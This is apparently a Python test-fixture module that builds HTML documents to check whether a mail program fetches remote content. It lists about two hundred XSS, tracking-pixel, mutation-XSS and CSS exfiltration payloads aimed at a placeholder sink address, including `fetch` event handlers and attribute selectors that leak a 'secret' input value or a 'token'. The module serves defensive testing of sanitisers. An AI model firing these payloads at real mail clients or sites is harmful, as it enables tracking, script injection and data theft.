"""Documents that load something, or run something, where a mail program shows them as they are.

Ways in are from the HTML and CSS standards, from OWASP's "XSS Filter Evasion Cheat Sheet" and from Cure53's list of
mutations (namespaces that a parser leaves and enters again). Each names `{sink}`, an address that must not be asked.
"""

from collections.abc import Callable, Iterator
from random import Random
from typing import Final, NamedTuple

LOADS: Final = (
    '<img src="{sink}">',
    "<img src={sink}>",
    '<img srcset="{sink} 1x, {sink} 2x">',
    '<img src="/nothing" onerror="fetch(\'{sink}\')">',
    '<picture><source srcset="{sink}"><img></picture>',
    '<input type="image" src="{sink}">',
    '<audio src="{sink}" preload="auto"></audio>',
    '<video src="{sink}" preload="auto"></video>',
    '<video poster="{sink}"></video>',
    '<audio preload="auto"><source src="{sink}"></audio>',
    '<video preload="auto"><source src="{sink}"></video>',
    '<video><track default src="{sink}"></video>',
    '<iframe src="{sink}"></iframe>',
    '<iframe srcdoc="&lt;img src={sink}&gt;"></iframe>',
    '<object data="{sink}"></object>',
    '<embed src="{sink}">',
    '<frameset><frame src="{sink}"></frameset>',
    '<script src="{sink}"></script>',
    "<script>fetch('{sink}')</script>",
    "<script>new Image().src = '{sink}'</script>",
    "<script>navigator.sendBeacon('{sink}')</script>",
    '<script type="module">import "{sink}"</script>',
    '<link rel="stylesheet" href="{sink}">',
    '<link rel="icon stylesheet" href="{sink}">',
    '<link rel="preload" as="image" href="{sink}">',
    '<link rel="prefetch" href="{sink}">',
    '<link rel="modulepreload" href="{sink}">',
    "<style>@import '{sink}';</style>",
    "<style>@import url({sink});</style>",
    "<style>p {{ background: url({sink}) }}</style><p>x</p>",
    "<style>p {{ background-image: url('{sink}') }}</style><p>x</p>",
    '<style>p {{ background: image-set("{sink}" 1x) }}</style><p>x</p>',
    "<style>p {{ background: -webkit-image-set(url({sink}) 1x) }}</style><p>x</p>",
    "<style>p::before {{ content: url({sink}) }}</style><p>x</p>",
    "<style>p {{ list-style: url({sink}) inside; display: list-item }}</style><p>x</p>",
    "<style>p {{ border-image: url({sink}) 30 }}</style><p>x</p>",
    "<style>p {{ border-image-source: url({sink}); border-style: solid }}</style><p>x</p>",
    "<style>p {{ mask-image: url({sink}) }}</style><p>x</p>",
    "<style>p {{ -webkit-mask-image: url({sink}) }}</style><p>x</p>",
    "<style>p {{ cursor: url({sink}), auto }}</style><p style='position:fixed;inset:0'>x</p>",
    "<style>p {{ shape-outside: url({sink}); float: left }}</style><p>x</p>",
    "<style>p {{ filter: url({sink}#f) }}</style><p>x</p>",
    "<style>p {{ clip-path: url({sink}#c) }}</style><p>x</p>",
    "<style>@font-face {{ font-family: f; src: url({sink}) }} p {{ font-family: f }}</style><p>x</p>",
    "<style>p {{ --u: url({sink}); background: var(--u) }}</style><p>x</p>",
    "<style>@media all {{ p {{ background: url({sink}) }} }}</style><p>x</p>",
    "<style>@supports (color: red) {{ p {{ background: url({sink}) }} }}</style><p>x</p>",
    "<style>@layer a {{ p {{ background: url({sink}) }} }}</style><p>x</p>",
    '<p style="background: url({sink})">x</p>',
    '<p style="background: u\\72l({sink})">x</p>',
    '<p style="background: \\75 rl({sink})">x</p>',
    '<p style="background: url(&quot;{sink}&quot;)">x</p>',
    '<p style="background:/**/url({sink})">x</p>',
    '<p style="background: URL({sink})">x</p>',
    "<p style=\"background: image-set('{sink}' 1x)\">x</p>",
    '<p style="display: list-item; list-style-image: url({sink})">x</p>',
    '<p style="border: 1px solid; border-image: url({sink}) 30">x</p>',
    '<p style="content: url({sink})">x</p>',
    '<p style="--u: url({sink}); background: var(--u)">x</p>',
    '<body background="{sink}">x</body>',
    '<table background="{sink}"><tr><td>x</td></tr></table>',
    '<table><tr><td background="{sink}">x</td></tr></table>',
    '<svg><image href="{sink}"/></svg>',
    '<svg><image xlink:href="{sink}"/></svg>',
    '<svg><feImage href="{sink}"/><rect filter="url({sink}#f)" width="9" height="9"/></svg>',
    '<svg><script href="{sink}"></script></svg>',
    "<svg><script>fetch('{sink}')</script></svg>",
    "<svg onload=\"fetch('{sink}')\"></svg>",
    '<svg><foreignObject><img src="{sink}"></foreignObject></svg>',
    '<svg><style>@import "{sink}";</style></svg>',
    "<svg><style>p {{ background: url({sink}) }}</style></svg><p>x</p>",
    "<details open ontoggle=\"fetch('{sink}')\">x</details>",
    "<body onload=\"fetch('{sink}')\">x</body>",
    "<input autofocus onfocus=\"fetch('{sink}')\">",
    "<style onload=\"fetch('{sink}')\"></style>",
    '<p style="animation: a 1ms" onanimationstart="fetch(\'{sink}\')">x</p><style>@keyframes a {{ }}</style>',
    '<meta http-equiv="refresh" content="0;url={sink}">',
    '<base href="{sink}/"><img src="x">',
    '<img src="/nothing" onerror="&#102;etch(\'{sink}\')">',
    "<noscript><p title=\"</noscript><img src='{sink}'>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src='{sink}'>\">",
    "<!--><img src={sink}>-->",
    "<![CDATA[><img src={sink}>]]>",
    '<xmp><p title="</xmp><img src={sink}>"></xmp>',
    '<textarea><p title="</textarea><img src={sink}>"></textarea>',
    '<title><p title="</title><img src={sink}>"></title>',
    '<p style="background:\\75\\72\\6c({sink})">x</p>',
    '<p style="background-image:-webkit-cross-fade(url({sink}),url({sink}),50%)">x</p>',
    '<p style="background-image:linear-gradient(red,red),url({sink})">x</p>',
    '<p style="background:var(--none,url({sink}))">x</p>',
    '<p style="-webkit-mask-box-image:url({sink})">x</p>',
    '<p style="all:unset;background:url({sink})">x</p>',
    '<p style="font-family:&quot;;}}a{{&quot;;background:url({sink})">x</p>',
    '<p style="/*;*/background/**/:/**/url({sink})">x</p>',
    '<p style="background:url({sink})!important">x</p>',
    "<style>@import url({sink}) screen;</style><p>x</p>",
    "<style>@IMPORT url('{sink}') layer(a);</style><p>x</p>",
    "<style>@charset 'utf-8';@import '{sink}';</style><p>x</p>",
    "<style><!-- @import '{sink}'; --></style><p>x</p>",
    "<style>@font-face{{font-family:b;src:url({sink});unicode-range:U+78}}p{{font-family:b}}</style><p>x</p>",
    "<style>@container (width){{p{{background:url({sink})}}}}body{{container-type:inline-size}}</style><p>x</p>",
    "<style>@keyframes k{{to{{background:url({sink})}}}}p{{animation:k 9s}}</style><p>x</p>",
    "<style>@property --p{{syntax:'*';inherits:true;initial-value:url({sink})}}p{{background:var(--p)}}</style><p>",
    "<style>p::first-letter{{background:url({sink})}}</style><p>x</p>",
    "<style>body{{p{{background:url({sink})}}}}</style><p>x</p>",
    "<style>html:has(p){{background:url({sink})}}</style><p>x</p>",
    "<style>p:not([x]){{background:url({sink})}}</style><p>x</p>",
    "<style>input[value^=s]{{background:url({sink})}}</style><input value=secret><style></style><p>x</p>",
    "<style>a[href*=token]{{background:url({sink})}}</style><a href='https://x.test/token'>x</a><style></style><p>x</p>",
    "<style>:root{{--y:url({sink})}}p{{background:var(--y)}}</style><p>x</p>",
    "<style>p{{}}/*</style><style>p{{background:url({sink})}}</style><p>x</p>",
    "<style>p{{background:\\75rl({sink})}}</style><p>x</p>",
    "<img src=x: onerror=fetch(`{sink}`)>",
    "<img src=x: OnError = 'fetch(`{sink}`)'>",
    '<img/src="x:"/onerror=fetch(`{sink}`)>',
    "<img src=x:\x0conerror=fetch(`{sink}`)>",
    '<img """><img src=x: onerror="fetch(`{sink}`)">',
    "<img src=x: onerror=&#x66;&#101;tch('{sink}')>",
    "<svg/onload=fetch(`{sink}`)>",
    "<svg><animate onbegin=fetch(`{sink}`) attributeName=x dur=1s>",
    "<body onpageshow=fetch(`{sink}`)>",
    "<video><source onerror=fetch(`{sink}`) src=x:></video>",
    "<video src=x: onerror=fetch(`{sink}`)></video>",
    "<audio src=x: onerror=fetch(`{sink}`)></audio>",
    "<iframe srcdoc=x onload=fetch(`{sink}`)></iframe>",
    "<link rel=stylesheet href=data:, onload=fetch(`{sink}`)>",
    "<link rel=stylesheet href=x: onerror=fetch(`{sink}`)>",
    "<script src=x: onerror=fetch(`{sink}`)></script>",
    "<style>@keyframes z{{}}</style><b style='animation:z' onanimationstart=fetch(`{sink}`)>x</b>",
    "<b/onanimationend=fetch(`{sink}`) style='animation:q .01s'>x</b><style>@keyframes q{{to{{left:0}}}}</style>",
    "<div oncontentvisibilityautostatechange=fetch(`{sink}`) style='display:block;content-visibility:auto'>x</div>",
    "<script/x>fetch(`{sink}`)</script>",
    "<script type=module src={sink}></script>",
    "<svg><script href='{sink}'/></svg>",
    "<svg><script>&#102;etch('{sink}')</script></svg>",
    "<image src={sink}>",
    "<img src=x: srcset={sink}>",
    "<picture><source srcset={sink} media=all><img src=x:></picture>",
    "<embed type=text/html src={sink}>",
    "<object data={sink} type=text/html></object>",
    "<iframe srcdoc='<img src={sink}>'></iframe>",
    "<iframe srcdoc='&lt;script&gt;fetch(`{sink}`)&lt;/script&gt;'></iframe>",
    "<iframe src=\"javascript:fetch('{sink}')\"></iframe>",
    "<iframe src='data:text/html,<img src={sink}>'></iframe>",
    "<link rel='alternate stylesheet' href={sink}>",
    "<link rel=preload as=script href={sink}>",
    "<link rel=preload as=image imagesrcset='{sink} 1x'>",
    "<META HTTP-EQUIV='Refresh' CONTENT='0; {sink}'>",
    "<table><tr><th background='{sink}'>x</table>",
    "<base href='{sink}/'><link rel=stylesheet href=a.css>",
    "<svg><rect width=9 height=9 style='fill:url({sink}#a)'/></svg>",
    "<svg><rect width=9 height=9 fill='url({sink}#b)'/></svg>",
    "<svg><image><set attributeName=href to={sink} /></image></svg>",
    "<svg><image><animate attributeName=href values={sink} dur=9s /></image></svg>",
    "<svg><filter id=f><feImage href={sink} /></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    "<math><mtext><img src={sink}></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src={sink}></annotation-xml></math>",
    "<div><template shadowrootmode=open><img src={sink}></template></div>",
    "<div><template shadowrootmode=open><style>:host{{background:url({sink})}}</style>x</template></div>",
    "<form id=f action={sink}><input name=a></form><script>f.submit()</script>",
    "<a id=c href=\"javascript:fetch('{sink}')\">x</a><script>c.click()</script>",
    "<a id=d href=https://x.invalid ping={sink}>x</a><script>d.click()</script>",
    "<marquee><img src={sink}></marquee>",
    "<style><!--</style><img src={sink}>",
    "<table><style></table><p></style><img src={sink}>",
    "<select><option><img src={sink}></select></option></select><img src={sink}>",
    "<!doctype html [<!ENTITY x 'y'>]><img src={sink}>",
    "<?php ?><img src={sink}>",
    "<!---><img src={sink}>-->",
    "<!-- --!><img src={sink}>-->",
    "</p/x='>'><img src={sink}>",
    '<noscript><p title="</noscript><img src={sink}>">',
    '<noembed><p title="</noembed><img src={sink}>">',
    '<noframes><p title="</noframes><img src={sink}>">',
    '<xmp><p title="</xmp><img src={sink}>">',
    '<title><p title="</title><img src={sink}>">',
    '<textarea><p title="</textarea><img src={sink}>">',
    '<style><p title="</style><img src={sink}>">',
    '<iframe><p title="</iframe><img src={sink}>">',
    '<svg><style><p title="</style><img src={sink}>"></style></svg><style><p title="</style><img src={sink}>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={sink}&gt;"><img src={sink}>',
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src={sink}>"></style></h1>',
    "<svg><p><style><g title='</style><img src={sink}>'>",
    "<p id='&lt;/p&gt;'></p><p title='\"><img src={sink}>'></p><img src={sink}>",
    "<b title='`'><img src={sink}><i title='`'>",
    "&lt;img src={sink}&gt;<img src={sink}>",
    "&amp;lt;<img src={sink}>",
    "{{{{first_name|<img src={sink}>}}}}<img src={sink}>",
    '<a href="https://x.test/{{{{first_name|\'><img src={sink}>}}}}">x</a><img src={sink}>',
    "<p title='{{{{first_name|x'><img src={sink}>}}}}'>",
)
WAITS: Final = {  # with what they wait for; they ask for nothing when they are shown
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src={sink}&gt;">': "a second parser",
    '<form><math><mtext></form><form><mglyph><style></math><img src="{sink}">': "a second parser",
    "<a href=\"javascript:fetch('{sink}')\">x</a>": "a click on a link",
    "<p onclick=\"fetch('{sink}')\">x</p>": "a click",
    '<form action="{sink}"><button>x</button></form>': "a form that is sent",
    '<a href="data:text/html,&lt;img src={sink}&gt;">x</a>': "a click on a link",
    '<template><img src="{sink}"></template>': "a template is not shown",
    '<link rel="preconnect" href="{sink}">': "a connection without a request",
}


def _upper(document: str) -> str:
    """Write the names of elements in capitals, which HTML does not mind."""
    return "".join(part.upper() if part.isalpha() else part for part in _tags(document))


def _tags(document: str) -> Iterator[str]:
    head, *rest = document.split("<")
    yield head
    for piece in rest:
        name = "".join(char for char in piece.split(">")[0].split(" ")[0] if char.isalpha())
        yield "<"
        at = piece.find(name) if name and piece.lstrip("/").startswith(name) else 0
        yield piece[:at]
        yield name if at or piece.startswith(name) else ""
        yield piece[at + len(name) :] if at or piece.startswith(name) else piece


def _deep(document: str) -> str:
    return f"{'<div>' * 60}{document}{'</div>' * 60}"


def _as_it_is(document: str) -> str:
    return document


def _in_page(document: str) -> str:
    return f"<html><head><title>x</title></head><body>{document}</body></html>"


def _in_text(document: str) -> str:
    return f"<!doctype html><html><body><p>Hello</p>{document}<p>x</p></body></html>"


def _centred(document: str) -> str:
    return f"<center><b>{document}</b></center>"


def _between_comments(document: str) -> str:
    return f"<!-- x -->{document}<!-- unclosed"


WRAPPINGS: Final[tuple[Callable[[str], str], ...]] = (
    _as_it_is,
    _in_page,
    _in_text,
    _centred,
    _between_comments,
    _upper,
    _deep,
)
_FRAMES: Final = '<frameset><frame src="{sink}"></frameset>'
WRAPPED_WAITS: Final = {(_FRAMES, wrap) for wrap in (_in_page, _in_text, _centred, _deep)}  # frames stand in no body


class Hostile(NamedTuple):
    way: str
    document: str
    waits: bool  # it asks for nothing when it is shown


def hostile(many: int, sink: Callable[[int], str], seed: int = 0) -> list[Hostile]:
    """Return so many documents, each with an address of its own: every way as it is, then wrapped by chance."""
    random, ways = Random(seed), [*LOADS, *WAITS]  # noqa: S311 - to be repeated
    made = []
    for number in range(many):
        way = ways[number % len(ways)]
        wrap = WRAPPINGS[0] if number < len(ways) else random.choice(WRAPPINGS[1:])
        waits = way in WAITS or (way, wrap) in WRAPPED_WAITS
        made.append(Hostile(way, wrap(way.format(sink=sink(number))), waits))
    return made
